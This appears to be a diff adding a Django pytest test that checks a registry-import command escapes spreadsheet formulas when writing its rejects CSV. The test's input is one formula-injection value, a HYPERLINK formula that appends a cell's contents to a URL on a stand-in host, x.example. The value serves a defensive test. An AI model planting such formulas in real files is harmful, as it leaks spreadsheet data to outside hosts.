@@ -181,3 +181,16 @@ def test_a_formula_cell_is_reported_as_a_formula_and_nothing_is_imported(users):
     with pytest.raises(importing.ImportFileError, match="第3行第.列：该单元格是公式"):
         importing.registry_import(actor=users["bureau"], filename="f.xlsx", content=out.getvalue())
     assert Person.objects.count() == before
+
+
+@pytest.mark.django_db
+def test_the_rejects_file_does_not_carry_a_formula_back_to_excel(users, tmp_path):
+    rows = _family("H1")
+    rows[1]["姓名"] = '=HYPERLINK("http://x.example/?"&A1,"点此")'
+    path = tmp_path / "people.csv"
+    path.write_bytes(_csv(rows))
+    call_command("registry_import", str(path), "--as", "bureau", "--skip-bad", stdout=io.StringIO(),
+                 stderr=io.StringIO())
+    rejects = list(csv.reader((tmp_path / "people.csv.rejects.csv").read_text(encoding="utf-8-sig").splitlines()))
+    names = [r[1 + importing.HEADERS.index("姓名")] for r in rejects[1:]]
+    assert "'" + rows[1]["姓名"] in names and not any(n.startswith("=") for n in names)
